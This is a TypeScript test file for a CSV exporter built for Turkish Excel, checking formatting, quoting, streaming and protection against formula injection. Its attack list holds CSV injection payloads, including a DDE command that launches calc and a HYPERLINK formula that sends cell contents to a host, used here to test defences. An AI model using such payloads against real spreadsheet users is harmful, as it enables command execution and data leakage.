import { buffer } from 'node:stream/consumers'
import { expect, test } from 'vitest'
import { csvFile, csvStream, csvText, type CsvColumn, type CsvValue } from './csv.ts'

const column: CsvColumn<CsvValue>[] = [{ title: 'Değer', value: (value) => value }]
const lineOf = (value: CsvValue) => csvText(column, [value]).slice('\uFEFF"Değer"\r\n'.length)

function parse(text: string, separator = ';'): string[][] {
  const rows: string[][] = [['']]
  let isQuoted = false
  for (let place = text.startsWith('\uFEFF') ? 1 : 0; place < text.length; place += 1) {
    const sign = text[place] ?? ''
    const row = rows.at(-1) ?? []
    const isStart = row.at(-1) === ''
    if (isQuoted && sign === '"' && text[place + 1] === '"') {
      row[row.length - 1] += '"'
      place += 1
    } else if (sign === '"' && (isQuoted || isStart)) isQuoted = !isQuoted
    else if (!isQuoted && sign === separator) row.push('')
    else if (!isQuoted && (sign === '\n' || sign === '\r')) {
      if (text[place + 1] === '\n') place += 1
      rows.push([''])
    } else row[row.length - 1] += sign
  }
  return rows.slice(0, -1)
}

test('a table has the byte order mark, semicolons and line ends that Turkish Excel expects', () => {
  const text = csvText(
    [
      { title: 'Gün', value: ({ day }: { day: string; ads: number }) => day },
      { title: 'İlan', value: ({ ads }) => ads },
    ],
    [
      { day: '2026-11-20', ads: 12 },
      { day: '2026-11-21', ads: 0 },
    ],
  )
  expect(text).toBe('\uFEFF"Gün";"İlan"\r\n"2026-11-20";12\r\n"2026-11-21";0\r\n')
})

test.each<[CsvValue, string]>([
  [0, '0'],
  [-5, '-5'],
  [12.5, '12,5'],
  [1234567.25, '1234567,25'],
  [Number.NaN, ''],
  [Number.POSITIVE_INFINITY, ''],
  [true, '"Evet"'],
  [false, '"Hayır"'],
  [null, ''],
  [undefined, ''],
  [new Date('2026-11-21T21:05:00Z'), '22.11.2026 00:05'],
  [new Date('nothing'), ''],
])('the value %s is formatted for Turkish Excel', (value, written) => {
  expect(lineOf(value).replaceAll('"', '')).toBe(`${written.replaceAll('"', '')}\r\n`)
})

test.each([
  'Deniz',
  'Çağrı “Işık” Öğüt',
  'tırnak " içinde',
  '"',
  '""',
  'noktalı; virgül',
  'iki\nsatır',
  'iki\r\nsatır',
  ' boşlukla ',
  'a-b@example.com',
  '5 + 3 = 8',
  "O'Brien",
  '😀',
  '',
])('a harmless text is written unchanged: %j', (text) => {
  expect(parse(csvText(column, [text]))).toEqual([['Değer'], [text]])
})

const attacks = [
  '=1+1',
  '+905550000000',
  '-2+3',
  '@SUM(1;2)',
  '\t=1+1',
  '\tmetin',
  '\r=1+1',
  '\rmetin',
  '\n=1+1',
  '  =1+1',
  '\u00A0=1+1',
  '\u3000@x',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '＝1+1',
  '＠SUM(1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.com?"&A1;"Tıkla")',
  '"=1+1"\n=2',
  'masum,=1+1',
  'masum;=1+1',
  'masum\t=1+1',
  'masum\n=1+1',
  'masum"\n=1+1',
  'masum",=1+1,"',
  'masum,"=1+1',
  'masum,""=1+1"',
  'masum";=1+1;"',
  '\0=1+1',
  'masum\r\n  @x',
]
const calculates = /^[\s\p{Cf}"]*[=+\-@＝＋－＠]|^[\t\r]/u

test.each(attacks.flatMap((text) => [';', ',', '\t'].map((separator) => [text, separator])))(
  '%j is never a formula, in a program whose separator is %j',
  (text, separator) => {
    const rows = [{ name: text, note: 'x' }]
    const columns: CsvColumn<{ name: string; note: string }>[] = [
      { title: 'No', value: () => 1 },
      { title: 'Ad', value: ({ name }) => name },
      { title: 'Not', value: ({ note }) => note },
    ]
    const cells = parse(csvText(columns, rows), separator).flat()
    expect(cells.filter((cell) => calculates.test(cell))).toEqual([])
  },
)

test('the title of a column is never a formula', () => {
  expect(csvText([{ title: '=1', value: () => 1 }], [])).toBe('\uFEFF"\'=1"\r\n')
})

test('a stream contains the same text, however many rows there are', async () => {
  const rows = Array.from({ length: 1201 }, (_, place) => `satır ${place}`)
  async function* slowly() {
    for (const row of rows) yield row
  }
  const streamed = await buffer(csvStream(column, slowly()))
  expect(streamed.toString()).toBe(csvText(column, rows))
  expect((await buffer(csvStream(column, []))).toString()).toBe(csvText(column, []))
})

test('an error while reading rows ends the stream', async () => {
  async function* broken() {
    yield 'a'
    throw new Error('away')
  }
  await expect(buffer(csvStream(column, broken()))).rejects.toThrow('away')
})

test('a CSV file has its media type and name', () => {
  const file = csvFile('Aboneler.csv', column, ['a'])
  expect(file).toMatchObject({ mediaType: 'text/csv; charset=utf-8', name: 'Aboneler.csv' })
})
